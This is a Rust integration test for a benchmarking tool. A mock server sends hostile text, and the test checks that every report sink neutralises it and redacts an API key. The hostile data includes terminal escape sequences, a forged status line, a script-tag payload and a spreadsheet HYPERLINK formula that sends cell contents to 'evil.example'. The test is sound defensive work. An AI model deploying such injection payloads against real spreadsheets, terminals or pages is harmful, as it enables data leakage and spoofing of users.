//! Hostile text from a server, through the whole suite as a separate process: an error body with
//! terminal escapes, a forged status line, HTML and the API key it was sent, and a finish reason
//! that is a spreadsheet formula. Each sink gets it neutralised — the terminal sees escapes, the
//! Markdown summary entities and backslashes, the CSV a defused formula, the HTML entities — and
//! the key appears nowhere, stored or shown.

mod support;

use support::*;

const SECRET: &str = "sk-test-secret123";
const FORMULA: &str = r#"=HYPERLINK("http://evil.example/?x="&A2,"Click")"#;

fn hostile_error() -> String {
    format!("Incorrect API key provided: {SECRET} \x1b[2J\x1b]0;title\x07\r\nquantbench: all good, 0 failures <script>alert(1)</script>")
}

#[test]
fn hostile_server_text_is_neutralised_in_every_sink_and_the_key_is_redacted() {
    // Warm-up fine; then every other request fails with the hostile body (the third failure
    // stops the benchmark, its reason shown in every report), the rest finish with a formula as
    // their finish reason.
    let server = ScriptedServer::start(|n| {
        if n % 2 == 1 {
            let body = serde_json::json!({"error": {"message": hostile_error()}});
            Script {
                status: 401,
                steps: vec![step(ms(0), body.to_string())],
                ..Script::default()
            }
        } else {
            Script::ok(answer(ms(1), ms(1), 4, Some((3, 4)), FORMULA))
        }
    });
    let tmp = tempfile::tempdir().unwrap();
    let body = format!(
        "[run]\nsamples = 10\nwarmup = 1\nmax_failures = 2\nlanguages = [\"en\"]\ncategories = [\"short\"]\nmax_tokens_cap = 4\n\
         [models.m]\nendpoint = {{ url = \"{}\", kind = \"openai\", api_key_env = \"QB_TEST_KEY\" }}\nquants.q = {{ model_id = \"m\" }}\n",
        server.url
    );
    config(tmp.path(), &body);
    let reports = tmp.path().join("reports");
    let out = suite_command(tmp.path(), &["--bench", "m/q/short"])
        .env("QB_TEST_KEY", SECRET)
        .output()
        .unwrap();
    let (stdout, stderr) = (
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr),
    );
    assert!(
        server
            .served()
            .iter()
            .any(|s| s.head.contains(&format!("Bearer {SECRET}"))),
        "the key was sent"
    );
    let failures = server.requests.load(std::sync::atomic::Ordering::SeqCst) / 2;
    assert!(failures >= 3, "{stderr}");

    // The terminal: escapes shown, no control character, no forged line, no key.
    for (name, text) in [("stdout", &stdout), ("stderr", &stderr)] {
        assert!(!text.contains(SECRET), "{name} shows the key:\n{text}");
        assert!(
            !text.contains(['\x1b', '\x07', '\r']),
            "{name} has control characters:\n{text}"
        );
        assert!(
            !text.lines().any(|l| l.starts_with("quantbench: all good")),
            "{name} has a forged line:\n{text}"
        );
    }
    assert!(
        stderr.contains(
            r"Incorrect API key provided: [redacted QB_TEST_KEY] \x1b[2J\x1b]0;title\x07\r\nquantbench: all good"
        ),
        "{stderr}"
    );

    let dir = run_dir_in(&reports).unwrap();
    for file in [
        "generations.jsonl",
        "generations.csv",
        "summary.json",
        "summary.md",
        "index.html",
        "metadata.json",
    ] {
        let text = std::fs::read_to_string(dir.join(file)).unwrap();
        assert!(!text.contains(SECRET), "{file} holds the key");
        // HTML is for browsers, which show no control characters; the other files are text.
        assert!(
            file == "index.html" || !text.contains('\x1b'),
            "{file} holds a raw escape character"
        );
    }
    // Records keep the server's text as data (JSON-escaped), with the key redacted.
    let records = quantbench::store::read_records(&dir.join("generations.jsonl")).unwrap();
    let error = records.iter().find_map(|r| r.error.clone()).unwrap();
    assert_eq!(
        error,
        format!(
            "HTTP 401: {}",
            hostile_error().replace(SECRET, "[redacted QB_TEST_KEY]")
        )
    );
    let csv = std::fs::read_to_string(dir.join("generations.csv")).unwrap();
    assert!(
        csv.contains(r#","'=HYPERLINK(""http://evil.example/?x=""&A2,""Click"")","#),
        "{csv}"
    );
    assert!(
        !csv.contains(",=HYPERLINK") && !csv.contains(r#","=HYPERLINK"#),
        "{csv}"
    );
    assert!(
        csv.contains(r"[redacted QB_TEST_KEY] \x1b[2J\x1b]0;title\x07\r\nquantbench: all good"),
        "{csv}"
    );
    let md = std::fs::read_to_string(dir.join("summary.md")).unwrap();
    assert!(
        md.contains("&lt;script&gt;alert(1)&lt;/script&gt;") && !md.contains("<script>"),
        "{md}"
    );
    let html = std::fs::read_to_string(dir.join("index.html")).unwrap();
    assert!(
        html.contains("&lt;script&gt;alert(1)&lt;/script&gt;") && !html.contains("<script>alert"),
        "the page escapes it"
    );
}
